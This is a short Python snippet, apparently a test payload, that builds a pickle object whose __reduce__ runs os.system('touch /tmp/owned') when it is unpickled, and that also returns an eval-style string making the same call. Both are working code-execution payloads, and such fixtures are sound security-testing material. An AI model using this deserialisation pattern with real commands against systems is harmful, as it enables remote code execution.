# Returns an object that runs a command where it is unpickled.

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def f(x):
    return [Payload(), "__import__('os').system('touch /tmp/owned')"]
